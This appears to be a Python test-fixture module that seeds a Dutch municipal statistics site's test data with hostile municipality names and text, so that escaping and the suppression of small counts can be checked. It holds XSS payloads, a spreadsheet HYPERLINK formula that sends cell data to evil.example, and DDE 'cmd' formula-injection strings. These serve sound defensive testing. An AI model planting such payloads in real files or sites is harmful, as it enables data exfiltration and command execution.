"""Sites built for the tests: data with hostile names, built once per test session (see conftest)."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import yaml

from workbench.io.statline import VT_FILES

EVIL_GEMEENTE = "Bunnik <img src=x onerror=alert(1)> \"quote\" 'single' & Súdwest"
EVIL_CENTRUM = 'Delft <script>alert("x")</script>'
EVIL_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Houten")'
"""A gemeente name a spreadsheet would run as a formula, were it not neutralised."""
RENAMES = {"Bunnik": EVIL_GEMEENTE, "Delft": EVIL_CENTRUM, "Houten": EVIL_FORMULA}
FORMULA_TEXTS = {
    "provider": "+cmd|' /C calc'!A0",
    "help": "-2+3+cmd|' /C calc'!A0",
    "commentary": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Text in Utrecht's input file that begins as a formula (a provider, its help, the commentary)."""


def plant_formulas(data: Path) -> None:
    """Put :data:`FORMULA_TEXTS` in Utrecht's input file (a provider's name and help, the commentary)."""
    path = data / "regios" / "GM0344" / "regiovisie.yaml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    doc["aanbieders"][0]["naam"] = FORMULA_TEXTS["provider"]
    doc["aanbieders"][0]["hulp"] = FORMULA_TEXTS["help"]
    doc["commentaar"]["meldingen"] = FORMULA_TEXTS["commentary"]
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")


def rename_gemeenten(data: Path, renames: dict[str, str]) -> None:
    """Give gemeenten other names in every file that holds names (CSV written properly quoted)."""
    for relative, columns in [
        ("cbs/84799NED_kwb2020_gemeenten.csv", ["Gemeentenaam_1"]),
        ("regions/regio_indeling_2020.csv", ["gemeentenaam", "centrumgemeente_naam"]),
        ("reference/centrumgemeenten_vrouwenopvang.csv", ["gemeentenaam_2020"]),
    ]:
        path = data / relative
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for col in columns:
            frame[col] = frame[col].replace(renames)
        frame.to_csv(path, index=False, lineterminator="\n")
    geo = data / "geo/gemeente_2020.geojson"
    doc = json.loads(geo.read_text(encoding="utf-8"))
    for feature in doc["features"]:
        name = feature["properties"]["statnaam"]
        feature["properties"]["statnaam"] = renames.get(name, name)
    geo.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


ZERO_GEMEENTE = ("GM0589", "Oudewater")
"""A gemeente whose 2024 Veilig Thuis cells are published as 0 or CBS's nil marker '-' in the hostile site."""


def plant_zeros(data: Path) -> None:
    """Publish every 2024 cell of :data:`ZERO_GEMEENTE` as '0' (meldingen) or '-' (adviezen) in every VT table.

    Both are counts in 0–7, so every page and every download must show them as secret ('.'), never as 0.
    """
    code = ZERO_GEMEENTE[0]
    for relative in VT_FILES.values():  # columns: ID;RegioS;Perioden;category;topics (adviezen before meldingen)
        path = data / relative
        lines = path.read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            cells = line.split(";")
            if cells[1].strip('"').strip() == code and cells[2].startswith('"2024'):
                lines[i] = ";".join([*cells[:4], *['"-"', '"0"'][-(len(cells) - 4) :]])
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def local_pages(out: Path) -> list[Path]:
    """Every gemeente page of a site."""
    return sorted(out.glob("GM*/gemeenten/GM*/lokale-analyse.html"))
